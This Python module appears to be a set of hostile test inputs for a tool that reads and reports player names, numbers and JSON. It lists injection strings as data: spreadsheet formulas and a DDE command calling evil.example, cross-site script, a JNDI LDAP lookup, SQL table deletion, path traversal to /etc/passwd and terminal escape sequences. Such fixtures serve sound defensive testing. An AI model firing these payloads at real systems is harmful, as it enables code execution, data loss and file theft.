"""What a hostile file, name or header is made of."""

from typing import Final

NAMES: Final = {
    "formula": '=HYPERLINK("http://evil.example","free gems")',
    "formula with a sign": "+1+cmd|' /C calc'!A0",
    "formula with an at": "@SUM(1+9)*cmd",
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover='alert(1)'",
    "markup of the terminal's library": "[bold red]x[/] [link=http://evil.example]y[/link]",
    "direction override": "Bo\u202egnirts\u202c",
    "direction isolates": "\u2066a\u2067b\u2069\u061c\u200e\u200f",
    "zero width": "A" + "\u200b\u2060\ufeff" * 24 + "na",
    "joiners only": "\u200d\u200c" * 30,
    "zalgo": "Z" + "\u0316\u0301\u0489\u0334" * 40,
    "hyperlink of a terminal": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clears the screen": "\x1b[2J\x1b[1;1H\x1b[?1049h",
    "title with a bell": "\x1b]0;owned\x07",
    "eight-bit escapes": "\x9b31m\x9d0;owned\x9c\x90q",
    "backspaces": "root\x08\x08\x08\x08Ana\x7f",
    "wide": "龍" * 200,
    "families": "👨\u200d👩\u200d👧\u200d👦" * 28,
    "right to left": "מלך العرب",
    "line separators": "a\u2028b\u2029c\x85d",
    "carriage return": "first\rsecond",
    "line feed": "first\nsecond",
    "both": "first\r\nsecond",
    "tab": "a\tb",
    "byte order mark": "\ufeffAna",
    "tags": "\U000e0041\U000e006e\U000e0061",
    "variation selectors": "A" + "\ufe0f\U000e0100" * 20,
    "filler": "\u3164",
    "noncharacters": "a\uffff\ufdd0\U0010fffeb",
    "not composed": "e\u0301u\u0308",
    "format string": "%s%n{0}${jndi:ldap://evil.example}",
    "sql": "'; DROP TABLE rok_players; --",
    "path": "../../../../etc/passwd",
    "quotes": '"a""b"\\"c\\',
    "looks like JSON": '{"id":1}],"x":[',
    "looks like nothing": "null",
}
"""Names that scans may have; each is text that the contract allows."""

NO_NAMES: Final = ("Bo\0b", "\x1f", "y" * 201, "\0" * 50, "龍" * 5000)
"""Texts that a report refuses."""

NUMBERS: Final = (
    *("0", "-0", "00", "1", "-1", "-2", "-3", "-4", "007", "+5", "1 234 567", "1,234,567"),
    *("1.234.567", "1.234", "1,23", "12.345", "32040216.0", "1.2M", "(10,975)", "1e5", "1E+999"),
    *("9007199254740991", "9007199254740992", "9223372036854775807", "9223372036854775808"),
    *("18446744073709551616", "-9223372036854775809", "9" * 40, "9" * 41, "9" * 4300, "9" * 4301),
    *("0x10", "0b1", "1_000", "Infinity", "-Infinity", "NaN", "nan", "null", "true", "½", "①"),
    *("\u0663\u0664", "\uff11\uff12", "1\u00a0234", "1\u202f234", "1\u2009234", "'1", "1-", "--1"),
    *(" 5 ", "\t5\n", "5\r\n", "\ufeff5", "5\u200b", "", " ", "-", "Unknown", "skipped", "N/A"),
    *("1" + ",000" * 400, "1" + ".000" * 3, "1" + " 000" * 5, "0." + "0" * 300, "1" + "0" * 300),
)

JSON_VALUES: Final = (
    *("null", "true", "false", "[]", "{}", "[1]", '{"a":1}', '""', '" "', "0", "-0", "-1", "-5"),
    *("1.0", "1.5", "1e5", "1E400", "-1e-400", "123456789012345678901234567890", "NaN", "Infinity"),
    *("-Infinity", "01", "1.", ".5", "+1", "0x1", "1_0", "'a'", "tru", "undefined", "9" * 4301),
    *('"\\ud800"', '"\\udc00\\ud800"', '"\\ud83d\\udc09"', '"\\u0000"', '"\\x"', '"\\/"', '"\t"'),
    *("9007199254740993", "9223372036854775808", '"9' + "9" * 5000 + '"', "[[[[[[]]]]]]"),
)

TOKENS: Final = (
    *(b"\0", b"\xff", b"\xfe\xff", b"\xff\xfe", b"\xef\xbb\xbf", b"\xed\xa0\x80", b"\xc0\x80"),
    *(b"\xf4\x90\x80\x80", b"\xc3", b"\xe9\xbe", b"\xf0\x9f\x90", b"\x80", b"\x1a", b"\x1b[2J"),
    *(b'"', b'""', b'"""', b"'", b",", b";", b"\t", b"\r", b"\n", b"\r\n", b"\n\n\n", b"\r\r"),
    *(b"{", b"}", b"[", b"]", b":", b"\\", b"\\u", b"\\ud83d", b"[[[[", b"}{", b"},{", b"},\n{"),
    *(b"null", b"NaN", b"-", b"1e999", b"9" * 30, b"ID", b"Name", b'"ID":', b'"root":[', b"\x1f"),
    *(b"\x1f\x8b\x08\0", b"PK\x03\x04", b"\x00\x00\xfe\xff", b"+/v8-", b"\x85", "\u2028".encode()),
)

ENCODINGS: Final = (
    *("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"),
    *("latin-1", "cp1252", "cp437", "shift_jis", "gb18030", "euc_kr", "utf-7"),
)
